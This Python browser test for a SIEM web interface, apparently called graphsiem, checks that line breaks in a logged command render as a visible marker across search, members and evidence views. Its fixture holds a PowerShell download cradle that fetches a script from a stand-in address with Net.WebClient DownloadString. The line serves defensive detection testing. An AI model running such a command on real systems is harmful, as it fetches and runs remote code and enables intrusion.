"""A line break in a script body is shown as "⏎ " (review U5B #3), in Chromium.

The page wrote it as ``\\u000a`` (the anti-spoofing rule of ``graphsiem/visible_text.py``: no real
line break that could draw a fake row).  It is now the mark and a space where the text may wrap,
still no real break, in the Members list, a search row and an evidence detail; a ⏎ in the data
itself is written as its code, so every mark shown is one the page drew.  The command goes in
through ``POST /v1/events`` and a real detection makes its cluster.
"""

from __future__ import annotations

import pytest

from tests.web.conftest import RARE_HOSTS, rare_command_site, screenshot
from tests.web.test_hostile_strings import assert_nothing_ran, search, sign_in

pytestmark = pytest.mark.browser

COMMAND = "powershell.exe -nop -c \"$u='http://203.0.113.9/a'\r\n$w=New-Object Net.WebClient\n$w.DownloadString($u) ⏎ fake\""
SHOWN = "$u='http://203.0.113.9/a'⏎ $w=New-Object Net.WebClient⏎ $w.DownloadString($u) \\u23ce fake"


@pytest.fixture(scope="module")
def lines_site(tmp_path_factory):
    with rare_command_site(tmp_path_factory.mktemp("lines"), COMMAND) as site:
        yield site


def _no_raw_break(text: str) -> None:
    assert "\\u000a" not in text and "\\u000d" not in text
    assert "\n" not in text and "\r" not in text


def test_search_members_and_evidence_mark_the_line_breaks(page, lines_site):
    sign_in(page, lines_site)
    search(page, "DownloadString")
    row = page.text_content("#search-results li button")
    # the row's label is cut; its value snippet shows the match's end, the data's own ⏎ as a code
    assert SHOWN[:52] in row and "DownloadString($u) \\u23ce fake" in row, row
    _no_raw_break(row)

    page.press("#search-input", "Escape")
    cluster = next(c for c in lines_site.api("GET", "/v1/clusters")["items"] if sorted(c["hosts"]) == RARE_HOSTS)
    page.goto(f"{lines_site.url}/#/clusters/{cluster['id']}")
    page.wait_for_selector("body[data-state=cluster-ready]")
    members = page.eval_on_selector_all("#members-list .member-value", "spans => spans.map(s => s.textContent)")
    shown = next(m for m in members if "DownloadString" in m)
    assert SHOWN in shown, shown
    _no_raw_break(shown)

    page.evaluate("() => window.graphsiem.clusterView.graph.cy.nodes('[type = \"process\"]')"
                  ".filter(n => n.data('value').includes('DownloadString'))[0].emit('tap')")
    page.wait_for_selector("body[data-evidence=ready]")
    lines = page.eval_on_selector_all("#evidence-table tbody tr:not(.missing) .evidence-detail > div.mono",
                                      "lines => lines.map(line => line.textContent)")
    detail = next(line for line in lines if line.startswith("process.command_line: "))
    assert SHOWN in detail, detail
    _no_raw_break(detail)
    screenshot(page, "line-break-marker")
    assert_nothing_ran(page)
